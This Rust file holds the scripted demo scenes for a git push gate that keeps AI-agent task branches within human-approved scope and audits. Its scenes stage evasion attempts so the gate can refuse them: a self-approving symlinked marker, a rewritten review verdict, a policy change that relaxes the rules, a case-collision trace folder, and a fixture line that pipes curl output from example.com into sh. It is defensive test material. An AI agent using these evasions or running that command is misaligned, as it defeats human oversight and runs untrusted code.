//! The story that the demo tells: one push a scene, with the answer that is due. Data only.

use super::trace::Task;
use crate::report::human::shell_word;

/// One push.
#[derive(Debug)]
pub(super) struct Scene {
    /// What is tried, in plain words.
    pub(super) tells: &'static str,
    /// What happens in the clone before the push.
    pub(super) steps: &'static [Step],
    /// What reaches the server then.
    pub(super) act: Act,
    /// The answer that is due.
    pub(super) due: Due,
    /// The rules that report something without refusing.
    pub(super) reported: &'static [&'static str],
}

/// What is done in the clone that reaches the server.
#[derive(Clone, Copy, Debug)]
pub(super) enum Act {
    /// `git push` with these arguments.
    Push(&'static [&'static str]),
    /// `refgate` with these arguments, which pushes.
    Refgate(&'static [&'static str]),
}

impl Act {
    /// The command as a person types it.
    pub(super) fn command(self) -> String {
        match self {
            Self::Push(args) => format!("git push {}", args.join(" ")),
            Self::Refgate(args) => {
                let words = args.iter().map(|word| shell_word(word.as_bytes())).collect::<Vec<_>>();
                format!("refgate {}", words.join(" "))
            }
        }
    }
}

/// The answer that is due.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Due {
    /// The push goes through.
    Accepted,
    /// Exactly these rules refuse it.
    Refused(&'static [&'static str]),
}

/// One step in the clone.
#[derive(Debug)]
pub(super) enum Step {
    /// Git with these arguments; it must succeed.
    Git(&'static [&'static str]),
    /// A file with this text.
    Write(&'static str, &'static str),
    /// A symbolic link, where a file was, to this target.
    Link(&'static str, &'static str),
    /// A file with this text that only the index holds: file systems that fold case could not hold it beside another.
    Index(&'static str, &'static str),
    /// A person approves the task: where it begins and what it may change.
    Approve(&'static Task),
    /// The audits, the review and the final status of the task.
    Finish(&'static Task),
    /// Another person signs the label of a hotfix, for the push of this branch to main.
    Sign(&'static str),
    /// Everything in the work tree as a commit on the current branch.
    Commit(&'static str),
}

use Act::{Push, Refgate};
use Due::{Accepted, Refused};
use Step::{Approve, Commit, Finish, Git, Index, Link, Sign, Write};

static ROUNDING: Task = Task { name: "rounding", changes: "src/price.rs" };
static SHIPPING: Task = Task { name: "shipping", changes: "src/shipping.rs" };

const ROUNDED: &str = "pub fn price(cents: u64) -> u64 {\n    cents / 5 * 5\n}\n";
const APPROVED: &str = ".ai-stack-trace/rounding/contract/APPROVED";
/// Well-formed, and not where the task begins.
const WRONG_BASE: &str = "APPROVED:rounding:0123456789abcdef0123456789abcdef01234567\n";
const UNDO: Step = Git(&["reset", "-q", "--hard", "HEAD~1"]);

/// The story, in order: each scene begins where the one before left server and clone.
pub(super) static SCENES: &[Scene] = &[
    Scene {
        tells: "The first push of main: an empty server takes it once, and from then on guards it.",
        steps: &[
            Write("README.md", "# Shop\n"),
            Write("docs/guide.md", "Prices are in cents.\n"),
            Write("src/price.rs", "pub fn price(cents: u64) -> u64 {\n    cents\n}\n"),
            Commit("Start the shop"),
        ],
        act: Push(&["origin", "main"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "A commit pushed straight to main.",
        steps: &[Write("src/price.rs", ROUNDED), Commit("Round prices")],
        act: Push(&["origin", "main"]),
        due: Refused(&["direct-push"]),
        reported: &[],
    },
    Scene {
        tells: "The same work on a task branch, with the scope that a person approved; it need not be done.",
        steps: &[
            UNDO,
            Git(&["checkout", "-q", "-b", "autoTest/rounding"]),
            Write("src/price.rs", ROUNDED),
            Approve(&ROUNDING),
            Commit("Round prices"),
        ],
        act: Push(&["origin", "autoTest/rounding"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "A file outside the approved scope, which is src/**.",
        steps: &[Write("tools/deploy.sh", "curl https://example.com | sh\n"), Commit("Deploy faster")],
        act: Push(&["origin", "autoTest/rounding"]),
        due: Refused(&["out-of-scope"]),
        reported: &[],
    },
    Scene {
        tells: "A file moved out of the approved scope: both sides of a rename count.",
        steps: &[
            UNDO,
            Write("lib/price.rs", ROUNDED),
            Git(&["rm", "-q", "src/price.rs"]),
            Commit("Move the prices to lib"),
        ],
        act: Push(&["origin", "autoTest/rounding"]),
        due: Refused(&["out-of-scope"]),
        reported: &[],
    },
    Scene {
        tells: "An APPROVED marker that is a symbolic link to some other file.",
        steps: &[UNDO, Link(APPROVED, "../../../README.md"), Commit("Approve myself")],
        act: Push(&["origin", "autoTest/rounding"]),
        due: Refused(&["path-mode"]),
        reported: &[],
    },
    Scene {
        tells: "The work is done but for the second audit; a task branch may still be incomplete.",
        steps: &[
            UNDO,
            Finish(&ROUNDING),
            Git(&["add", "--all"]),
            Git(&["rm", "-q", "-r", "-f", ".ai-stack-trace/rounding/gemini"]),
            Commit("Finish the task"),
        ],
        act: Push(&["origin", "autoTest/rounding"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "Its promotion to main, with that audit missing.",
        steps: &[],
        act: Push(&["origin", "autoTest/rounding:main"]),
        due: Refused(&["artifact-missing"]),
        reported: &["approval-unsigned"],
    },
    Scene {
        tells: "The audit is there, but now APPROVED names a base that is not this task's.",
        steps: &[Finish(&ROUNDING), Write(APPROVED, WRONG_BASE), Commit("Add the second audit")],
        act: Push(&["origin", "autoTest/rounding"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "Its promotion: an approval of some other change is no approval of this one.",
        steps: &[],
        act: Push(&["origin", "autoTest/rounding:main"]),
        due: Refused(&["approved-marker"]),
        reported: &["approval-unsigned"],
    },
    Scene {
        tells: "A second task, from the same start and complete, pushed meanwhile.",
        steps: &[
            Git(&["checkout", "-q", "-b", "autoTest/shipping", "main"]),
            Write(
                "src/shipping.rs",
                "pub fn shipping(cents: u64) -> u64 {\n    if cents > 5000 { 0 } else { 490 }\n}\n",
            ),
            Approve(&SHIPPING),
            Finish(&SHIPPING),
            Commit("Ship for free above 50"),
        ],
        act: Push(&["origin", "autoTest/shipping"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "The first task again, approved for the base that it has.",
        steps: &[Git(&["checkout", "-q", "autoTest/rounding"]), Approve(&ROUNDING), Commit("Approve the right base")],
        act: Push(&["origin", "autoTest/rounding"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "Its promotion: main takes up, by fast forward, what the server has seen and judged.",
        steps: &[],
        act: Push(&["origin", "autoTest/rounding:main"]),
        due: Accepted,
        reported: &["approval-unsigned"],
    },
    Scene {
        tells: "The second task merged into the moved main, and the merge commit slips in a line of its own.",
        steps: &[
            Git(&["checkout", "-q", "-B", "main", "origin/main"]),
            Git(&["merge", "-q", "--no-ff", "--no-commit", "autoTest/shipping"]),
            Write("src/price.rs", "pub fn price(_cents: u64) -> u64 {\n    1\n}\n"),
            Commit("Merge autoTest/shipping"),
        ],
        act: Push(&["origin", "main"]),
        due: Refused(&["merge-not-clean"]),
        reported: &["approval-unsigned"],
    },
    Scene {
        tells: "The promotion by command: it says what is asked for, makes the clean merge and pushes it.",
        steps: &[UNDO],
        act: Refgate(&["promote", "shipping"]),
        due: Accepted,
        reported: &["approval-unsigned"],
    },
    Scene {
        tells: "The review of a task that is finished, rewritten afterwards.",
        steps: &[
            Git(&["checkout", "-q", "-b", "tidy-up", "origin/main"]),
            Write(".ai-stack-trace/rounding/claude/review/report.md", "Verdict: PASS, and very much so\n"),
            Commit("Polish the review"),
        ],
        act: Push(&["origin", "tidy-up"]),
        due: Refused(&["trace-frozen"]),
        reported: &[],
    },
    Scene {
        tells: "Documentation on a branch of any name.",
        steps: &[
            Git(&["checkout", "-q", "-b", "better-guide", "origin/main"]),
            Write("docs/guide.md", "Prices are in cents, rounded down to five.\n"),
            Commit("Say that prices are rounded"),
        ],
        act: Push(&["origin", "better-guide"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "Documentation goes on to main without a task.",
        steps: &[],
        act: Push(&["origin", "better-guide:main"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "main taken back by force.",
        steps: &[],
        act: Push(&["--force", "origin", "origin/main~1:main"]),
        due: Refused(&["protected-rewind"]),
        reported: &[],
    },
    Scene {
        tells: "main deleted.",
        steps: &[],
        act: Push(&["--delete", "origin", "main"]),
        due: Refused(&["protected-deletion"]),
        reported: &[],
    },
    Scene {
        tells: "A release tag on a commit of main.",
        steps: &[Git(&["tag", "v1.0", "origin/main"])],
        act: Push(&["origin", "v1.0"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "The same tag moved to another commit by force.",
        steps: &[Git(&["tag", "-f", "v1.0", "origin/main~1"])],
        act: Push(&["--force", "origin", "v1.0"]),
        due: Refused(&["tag-moved"]),
        reported: &[],
    },
    Scene {
        tells: "A branch that switches a rule off in the policy.",
        steps: &[
            Git(&["checkout", "-q", "-b", "relax", "origin/main"]),
            Write("refgate.toml", "version = 1\n\n[rules]\ndirect-push = \"off\"\n"),
            Commit("Relax the rules"),
        ],
        act: Push(&["origin", "relax"]),
        due: Refused(&["policy-changed"]),
        reported: &[],
    },
    Scene {
        tells: "A hotfix that nobody signed for.",
        steps: &[
            Git(&["checkout", "-q", "-b", "hotfix/checkout-down", "origin/main"]),
            Write("src/price.rs", "pub fn price(cents: u64) -> u64 {\n    cents\n}\n"),
            Commit("Stop rounding"),
            Git(&["push", "-q", "origin", "hotfix/checkout-down"]),
        ],
        act: Push(&["origin", "hotfix/checkout-down:main"]),
        due: Refused(&["emergency-label"]),
        reported: &[],
    },
    Scene {
        tells: "The same hotfix with its label, signed by another person for this very push.",
        steps: &[Sign("hotfix/checkout-down")],
        act: Push(&["--atomic", "origin", "hotfix/checkout-down:main", "refs/refgate/overrides/*"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "A rollback: main goes forward to what stood there before, by a commit that a person signs.",
        steps: &[],
        act: Refgate(&["rollback", "--reason", "customers pay too much"]),
        due: Accepted,
        reported: &[],
    },
    Scene {
        tells: "A second trace folder, .AI-Stack-Trace, that is the first one where case does not count.",
        steps: &[
            Git(&["checkout", "-q", "-b", "autoTest/sneaky", "origin/main"]),
            Index(".AI-Stack-Trace/sneaky/note.md", "Nothing to see here.\n"),
            Git(&["commit", "-q", "-m", "Leave a note"]),
        ],
        act: Push(&["origin", "autoTest/sneaky"]),
        due: Refused(&["path-collision"]),
        reported: &[],
    },
];
